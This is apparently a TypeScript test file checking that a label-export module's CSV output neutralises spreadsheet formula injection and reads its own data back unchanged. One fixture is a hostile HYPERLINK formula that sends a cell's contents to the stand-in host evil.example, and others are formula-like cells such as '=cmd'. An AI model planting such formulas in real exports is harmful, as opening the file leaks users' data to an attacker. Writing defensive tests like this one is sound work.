import { describe, expect, it } from 'vitest';
import type { Sidecar } from '../../protocol/items.js';
import { exportLines, parseCsv, parseExport } from './label-export.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")';

function sidecar(path: string, over: Partial<Sidecar> = {}): Sidecar {
  return { path, tags: [], notes: '', star: null, flag: null, metrics: {}, version: 1, updated_at: '2026-01-02T03:04:05.000Z', updated_by: 'ann', ...over };
}

async function render(rows: Sidecar[], format: 'json' | 'csv'): Promise<string> {
  async function* source() {
    yield* rows;
  }
  let text = '';
  for await (const chunk of exportLines(source(), format)) text += chunk;
  return text;
}

const rows = [
  sidecar('/a.jpg', { notes: HOSTILE, tags: ['=cmd', 'ok'], updated_by: '@bob' }),
  sidecar('/b.jpg', { notes: "'tis a quote", star: 3, flag: null }),
  sidecar('/c.jpg', { notes: "'=already quoted", updated_by: '-x' }),
  sidecar('/d.jpg', { notes: '+1, "two"\n\tthree' }),
];

describe('label export', () => {
  it('writes no CSV cell a spreadsheet would run as a formula', async () => {
    const cells = parseCsv(await render(rows, 'csv')).slice(1).flat();
    expect(cells).toContain(`'${HOSTILE}`);
    expect(cells).toContain("'@bob");
    expect(cells).toContain("'-x");
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('reads its own CSV back to the very values, quotes included', async () => {
    const back = parseExport(await render(rows, 'csv'), 'csv');
    expect(back.map((r) => (r as Sidecar).notes)).toEqual(rows.map((r) => r.notes));
    expect(back.map((r) => (r as Sidecar).updated_by)).toEqual(rows.map((r) => r.updated_by));
    expect((back[0] as Sidecar).tags).toEqual(['=cmd', 'ok']);
  });

  it('leaves the JSON export verbatim', async () => {
    const text = await render(rows, 'json');
    expect(text).not.toContain(`'${HOSTILE}`);
    expect(parseExport(text, 'json')).toEqual(rows);
  });
});
